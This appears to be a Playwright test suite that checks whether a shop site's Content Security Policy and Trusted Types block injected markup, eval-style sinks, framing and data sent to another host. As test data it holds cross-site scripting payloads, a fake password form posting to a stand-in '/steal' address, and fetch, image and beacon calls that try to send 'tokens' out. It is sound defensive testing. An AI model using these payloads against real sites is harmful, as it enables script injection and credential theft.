import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { quietNetwork } from '#scripts/open-requests.ts';
import { expect, test } from './fixtures.ts';

test.use({ expected: [/Content Security Policy|TrustedHTML|TrustedScript|status of 404/i], expectedViolations: [/^/] });

/** The sinks through which an attacker could run injected text, each with the start of the sample that its violation reports. */
const sinks: Record<string, { sink: (text: string) => unknown; sample: string }> = {
  innerHTML: {
    sink: (text) => {
      document.body.innerHTML = text;
    },
    sample: 'Element innerHTML|',
  },
  outerHTML: {
    sink: (text) => {
      document.body.outerHTML = text;
    },
    sample: 'Element outerHTML|',
  },
  insertAdjacentHTML: {
    sink: (text) => document.body.insertAdjacentHTML('beforeend', text),
    sample: 'Element insertAdjacentHTML|',
  },
  'document.write': {
    sink: (text) => Reflect.apply(document.write, document, [text]),
    sample: 'Document write|',
  },
  createContextualFragment: {
    sink: (text) => document.createRange().createContextualFragment(text),
    sample: 'Range createContextualFragment|',
  },
  DOMParser: {
    sink: (text) => new DOMParser().parseFromString(text, 'text/html'),
    sample: 'DOMParser parseFromString|',
  },
  srcdoc: {
    sink: (text) => {
      document.createElement('iframe').srcdoc = text;
    },
    sample: 'HTMLIFrameElement srcdoc|',
  },
  'the text of a script': {
    sink: (text) => {
      document.createElement('script').text = text;
    },
    sample: 'HTMLScriptElement text|',
  },
  'the address of a script': {
    sink: () => {
      document.createElement('script').src = '/other.js';
    },
    sample: 'HTMLScriptElement src|',
  },
  eval: {
    // biome-ignore lint/security/noGlobalEval: what must not work
    sink: (text) => eval(text),
    sample: 'eval|',
  },
  'a timer': {
    sink: (text) => setTimeout(text),
    sample: 'Window setTimeout|',
  },
  'a policy of its own': {
    sink: () =>
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('default', {}),
    sample: 'default',
  },
};

test('passing a string to a sink throws', async ({ page, policyViolations }) => {
  await page.goto('/about');
  for (const [name, { sink, sample }] of Object.entries(sinks)) {
    await test.step(name, async () => {
      const before = await page.locator('body').innerHTML();
      // Run it in a timer, because code evaluated by the debugger is exempt from the policy.
      const thrown = await page.evaluate(`new Promise((resolve) => setTimeout(() => {
        try { resolve((${sink})('<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>')); } catch (error) { resolve(error.name); }
      }))`);
      expect(['TypeError', 'EvalError']).toContain(thrown);
      expect(await page.locator('body').innerHTML()).toBe(before);
      await expect.poll(() => policyViolations.violations.join('\n')).toContain(`/about ${sample}`);
    });
  }
});

const AWAY = 'https://elsewhere.example';

/** Markup that an attacker could inject, each with the directive that it violates and what the browser blocks. */
const injections = [
  { what: 'a script', markup: '<script>window.hacked = 1</script>', violation: 'script-src-elem inline' },
  {
    what: 'a script of another host',
    markup: `<script src="${AWAY}/a.js"></script>`,
    violation: `script-src-elem ${AWAY}/a.js`,
  },
  {
    what: 'a handler',
    markup: '<img src="/missing.png" onerror="window.hacked = 1" alt="">',
    violation: 'script-src-attr inline',
  },
  { what: 'a style', markup: '<style>h1 { display: none }</style>', violation: 'style-src-elem inline' },
  {
    what: 'a style attribute',
    markup: '<p style="position: fixed">Sign in</p>',
    violation: 'style-src-attr inline',
  },
  {
    what: 'a style sheet of another host',
    markup: `<link rel="stylesheet" href="${AWAY}/a.css">`,
    violation: `style-src-elem ${AWAY}/a.css`,
  },
  {
    what: 'a picture of another host',
    markup: `<img src="${AWAY}/a.png" alt="">`,
    violation: `img-src ${AWAY}/a.png`,
  },
  {
    what: 'a picture in the address',
    markup: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">',
    violation: 'img-src data',
  },
  { what: 'a frame', markup: `<iframe src="${AWAY}/"></iframe>`, violation: `frame-src ${AWAY}` },
  { what: 'an object', markup: `<object data="${AWAY}/a.swf"></object>`, violation: `object-src ${AWAY}` },
  { what: 'a base', markup: `<base href="${AWAY}/">`, violation: `base-uri ${AWAY}/` },
];

const FORM = `<form action="${AWAY}/steal"><input name="password"><button>Sign in here</button></form>`;

test('injected markup does nothing, and its form sends nothing to another host', async ({ page, policyViolations }) => {
  const report = () => policyViolations.violations.join('\n');
  // If a request reaches the other host, the response is a script that would run.
  await page.route(`${AWAY}/**`, (route) => route.fulfill({ contentType: 'text/javascript', body: 'hacked = 1' }));
  const markup = injections.map((injection) => injection.markup).join('');
  await page.route('/about', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</h1>', `</h1>${markup}${FORM}`);
    await route.fulfill({ response, body });
  });
  await page.goto('/about');
  await quietNetwork(page);
  for (const { what, violation } of injections) {
    await test.step(what, () => expect.poll(report).toContain(`securitypolicyviolation ${violation} `));
  }
  await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(await page.evaluate(() => document.baseURI)).not.toContain(AWAY);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  // Last, because locators then wait for a navigation that never happens. So would a click.
  await page.evaluate(() =>
    setTimeout(() => document.querySelector<HTMLFormElement>('form[action$=steal]')?.requestSubmit()),
  );
  await expect.poll(report).toContain(`securitypolicyviolation form-action ${AWAY}/steal`);
  await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
});

test('a compromised script of the shop cannot send data to another host', async ({ page, policyViolations }) => {
  await page.goto('/about');
  const sent = await page.evaluate(async (address) => {
    const tries = [
      fetch(address, { method: 'POST', body: 'tokens' }),
      new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: address })),
    ];
    return (await Promise.allSettled(tries))
      .map(({ status }) => status)
      .concat(navigator.sendBeacon(address, 'tokens') ? 'fulfilled' : 'rejected');
  }, `${AWAY}/`);
  expect(sent.slice(0, 2)).toEqual(['rejected', 'rejected']);
  await expect.poll(() => policyViolations.violations.length).toBeGreaterThan(2);
  await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
});

test('another site cannot frame the shop', async ({ page, origins, baseURL }) => {
  // A real server: Chromium does not let a mocked response, which has no IP address, frame a page of this machine.
  const framer = createServer((_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<h2>Framer</h2><iframe src="${baseURL}/about"></iframe>`);
  });
  await new Promise<void>((resolve) => framer.listen(0, 'localhost', resolve));
  const address = `http://localhost:${(framer.address() as AddressInfo).port}`;
  origins.push(address);
  await page.goto(address);
  await quietNetwork(page);
  await expect(page.getByRole('heading', { name: 'Framer' })).toBeVisible();
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  framer.close();
});

test('a request to a host that is not in the inventory is reported', async ({ page, policyViolations }) => {
  await page.route(`${AWAY}/`, (route) => route.fulfill({ contentType: 'text/html', body: 'Hello' }));
  await page.goto(`${AWAY}/`);
  expect(policyViolations.unknownOriginRequests).toEqual([`document ${AWAY}/`]);
});
